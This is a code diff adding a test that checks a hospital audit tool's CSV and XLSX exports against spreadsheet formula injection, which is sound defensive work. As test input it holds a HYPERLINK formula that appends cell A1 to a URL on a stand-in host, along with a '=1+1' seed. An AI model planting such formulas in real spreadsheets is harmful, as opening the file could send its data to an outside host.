@@ -176,3 +176,26 @@ def test_csv_and_xlsx_export(tmp_path: Path) -> None:
     assert "Remise de la lettre au patient le jour de la sortie non tracée" in not_met[0].comment.text
     summary = {row[0]: row[1] for row in wb["Synthèse"].iter_rows(values_only=True)}
     assert summary["Dossiers évalués"] == 80 and summary["Classe"] == audit.rate.cls
+
+
+def test_exports_never_carry_a_live_formula(tmp_path: Path) -> None:
+    """Formula injection: an auditor's reason, its name or the seed typed as a formula stays text."""
+    records = hospital()
+    first = run_audit(V2, records, seed="=1+1")
+    target = next(r for r in first.sample if not r.final.compliant)
+    reason = '=HYPERLINK("http://exemple.invalid/?x="&A1,"Voir")'
+    override = {"handed_over_same_day": Override(Result.MET, reason, "@qualite")}
+    audit = run_audit(V2, records, seed="=1+1", overrides={target.stay_id: override})
+    rows = list(csv.reader(io.StringIO(audit_to_csv(audit)), delimiter=";"))
+    cells = [c for r in rows for c in r]
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert any(reason in c for c in cells)  # kept, inside the notes cell, as text
+    assert next(r[:2] for r in rows if r and r[0] == "Graine du tirage") == ["Graine du tirage", "'=1+1"]
+
+    wb = openpyxl.load_workbook(write_audit_xlsx(audit, tmp_path / "audit.xlsx"))
+    for ws in wb.worksheets:
+        for row in ws.iter_rows():
+            for cell in row:
+                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
+    seeds = [r[1].value for r in wb["Synthèse"].iter_rows() if r[0].value == "Graine du tirage"]
+    assert seeds == ["'=1+1"]
